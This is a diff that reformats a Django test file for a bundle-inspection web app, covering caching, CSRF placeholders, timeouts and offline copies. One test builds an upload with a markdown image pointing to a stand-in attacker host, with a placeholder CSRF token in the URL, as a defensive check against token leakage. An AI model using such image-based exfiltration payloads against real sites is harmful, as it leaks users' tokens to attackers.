@@ -47,8 +47,14 @@ def test_a_parameter_that_is_no_setting_does_not_build_the_page_again(client, bu
     first = client.get(url)
     assert first.status_code == 200
     _never_rendered_again(monkeypatch)
-    for busting in ("?utm_source=1", "?utm_source=2&fbclid=x", "?profile=auto", "?provider=openai-chat",
-                    "?format=json&utm_source=3", "?model="):
+    for busting in (
+        "?utm_source=1",
+        "?utm_source=2&fbclid=x",
+        "?profile=auto",
+        "?provider=openai-chat",
+        "?format=json&utm_source=3",
+        "?model=",
+    ):
         again = Client().get(url + busting)
         assert again.status_code == 200 and again["ETag"] == first["ETag"], busting
         assert "utm_source" not in again.content.decode() and "fbclid" not in again.content.decode()
@@ -73,10 +79,18 @@ def test_the_bundle_filter_is_still_a_page_of_its_own(client, bundle):
 def test_the_placeholder_is_not_a_fixed_string_an_uploader_could_write():
     assert re.fullmatch(r"csrf-[0-9a-f]{32}", page_cache.CSRF_PLACEHOLDER)
     another_process = subprocess.run(
-        [sys.executable, "-c", "import django; django.setup(); "
-         "from inspector.views.page_cache import CSRF_PLACEHOLDER; print(CSRF_PLACEHOLDER)"],
-        capture_output=True, text=True, check=True, cwd=ROOT,
-        env=dict(os.environ, DJANGO_SETTINGS_MODULE="inspector.settings"))
+        [
+            sys.executable,
+            "-c",
+            "import django; django.setup(); "
+            "from inspector.views.page_cache import CSRF_PLACEHOLDER; print(CSRF_PLACEHOLDER)",
+        ],
+        capture_output=True,
+        text=True,
+        check=True,
+        cwd=ROOT,
+        env=dict(os.environ, DJANGO_SETTINGS_MODULE="inspector.settings"),
+    )
     assert another_process.stdout.strip() not in ("", page_cache.CSRF_PLACEHOLDER)
 
 
@@ -84,15 +98,21 @@ def test_the_placeholder_is_not_a_fixed_string_an_uploader_could_write():
 def test_uploaded_text_holding_a_placeholder_is_shown_as_written(client, db, door):
     # The placeholder before this fix, and a guess of the same shape as today's.
     placeholders = ["csrf-placeholder-7f1c2a9e4b", f"csrf-{secrets.token_hex(16)}"]
-    text = ("tests:\n  - id: a\n    input: '![x](https://evil.example/?t=" + placeholders[0]
-            + ") " + placeholders[1] + "'\n").encode()
+    text = (
+        "tests:\n  - id: a\n    input: '![x](https://evil.example/?t="
+        + placeholders[0]
+        + ") "
+        + placeholders[1]
+        + "'\n"
+    ).encode()
     if door == "page":
         answer = client.post("/", {"files": [SimpleUploadedFile("s.yaml", text)]})
         assert answer.status_code in (302, 303), answer.content[:300]
         bundle_id = answer["Location"].strip("/").split("/")[1]
     else:
-        answer = client.post("/api/bundles", {"files": {"s.yaml": text.decode()}},
-                             content_type="application/json")
+        answer = client.post(
+            "/api/bundles", {"files": {"s.yaml": text.decode()}}, content_type="application/json"
+        )
         assert answer.status_code == 201, answer.content[:300]
         bundle_id = answer.json()["id"]
     url = case_url(bundle_id, "s.yaml", "a")
@@ -111,8 +131,9 @@ def _three_honest_documents() -> dict[str, str]:
 
 @override_settings(REQUEST_BUDGET_SECONDS=0.2, RENDER_DEADLINE_SECONDS=60)
 def test_an_uploads_documents_share_one_budget_through_the_api(client, db):
-    response = client.post("/api/bundles", {"files": _three_honest_documents()},
-                           content_type="application/json")
+    response = client.post(
+        "/api/bundles", {"files": _three_honest_documents()}, content_type="application/json"
+    )
     assert response.status_code == 422, response.content[:300]
     assert "budget of 0.2 s" in response.json()["detail"]
     assert Bundle.objects.count() == 0
@@ -136,17 +157,29 @@ def test_the_deadlines_end_before_gunicorns_timeout():
 
 def test_a_smaller_timeout_shrinks_every_deadline_with_it():
     found = subprocess.run(
-        [sys.executable, "-c", "from inspector import settings as s, gunicorn_conf as g; "
-         "print(g.timeout, s.REQUEST_BUDGET_SECONDS, s.RENDER_DEADLINE_SECONDS)"],
-        capture_output=True, text=True, check=True, cwd=ROOT,
-        env=dict(os.environ, REQUEST_TIMEOUT_SECONDS="8", RENDER_DEADLINE_SECONDS="30"))
+        [
+            sys.executable,
+            "-c",
+            "from inspector import settings as s, gunicorn_conf as g; "
+            "print(g.timeout, s.REQUEST_BUDGET_SECONDS, s.RENDER_DEADLINE_SECONDS)",
+        ],
+        capture_output=True,
+        text=True,
+        check=True,
+        cwd=ROOT,
+        env=dict(os.environ, REQUEST_TIMEOUT_SECONDS="8", RENDER_DEADLINE_SECONDS="30"),
+    )
     timeout, budget, deadline = (float(value) for value in found.stdout.split())
     assert timeout == 8 and deadline <= budget < timeout
 
 
 def _source_lines(page: str) -> list[str]:
-    return re.findall(r'<div class="line[^"]*" id="L(\d+)"[^>]*><a class="num"[^>]*>\d+</a>'
-                      r'<span class="text">(.*?)</span></div>', page, flags=re.S)
+    return re.findall(
+        r'<div class="line[^"]*" id="L(\d+)"[^>]*><a class="num"[^>]*>\d+</a>'
+        r'<span class="text">(.*?)</span></div>',
+        page,
+        flags=re.S,
+    )
 
 
 @override_settings(HIGHLIGHT_SECONDS=0.3)
@@ -198,8 +231,14 @@ def test_the_offline_copy_is_made_once_and_kept_until_the_review_changes(client,
     first = client.get(url + "?utm_source=1")
     assert first.status_code == 200 and len(made) == 1
     assert Client().get(url).content == first.content and len(made) == 1
-    Verdict.objects.create(bundle=bundle, document="evals/suite.yaml", case_id="a", verdict="ok",
-                           author="Alice", author_key_hash="0" * 64)
+    Verdict.objects.create(
+        bundle=bundle,
+        document="evals/suite.yaml",
+        case_id="a",
+        verdict="ok",
+        author="Alice",
+        author_key_hash="0" * 64,
+    )
     reviewed = client.get(url)
     assert reviewed.status_code == 200 and len(made) == 2 and b"Alice" in reviewed.content
 
@@ -219,13 +258,21 @@ def test_an_offline_copy_past_the_requests_budget_is_a_503_with_a_message_and_no
 
 def test_an_offline_copy_of_texts_not_found_at_their_lines_still_holds_them(client, db):
     # JSON strings with escapes read otherwise than their file: they go to the table.
-    body = json.dumps({"model": "m", "messages": [
-        {"role": "user" if n % 2 == 0 else "assistant", "content": f"turn {n}\\n\"quoted\""}
-        for n in range(200)]}, indent=1)
+    body = json.dumps(
+        {
+            "model": "m",
+            "messages": [
+                {"role": "user" if n % 2 == 0 else "assistant", "content": f'turn {n}\\n"quoted"'}
+                for n in range(200)
+            ],
+        },
+        indent=1,
+    )
     stored, _ = store_bundle({"c.json": body.encode()}, title="escapes")
     html = client.get(f"/b/{stored.pk}/offline.html").content.decode()
-    data = json.loads(re.search(r'id="bundle-data">(.*?)</script>', html, re.S).group(1)
-                      .replace("<\\/", "</"))
+    data = json.loads(
+        re.search(r'id="bundle-data">(.*?)</script>', html, re.S).group(1).replace("<\\/", "</")
+    )
     assert 'turn 199\\n"quoted"' in data["table"]
 
 
@@ -250,7 +297,8 @@ def test_a_page_whose_highlighting_met_busy_workers_is_not_kept(client, db, monk
 
 @override_settings(REQUEST_BUDGET_SECONDS=0.5)
 def test_an_offline_copy_too_large_for_what_is_left_of_the_budget_is_refused_before_it_is_built(
-        client, db, monkeypatch):
+    client, db, monkeypatch
+):
     from inspector.bundles import offline
 
     big = "tests:\n" + "".join(f"  - id: c{n}\n    input: {'word ' * 40}{n}\n" for n in range(2_000))
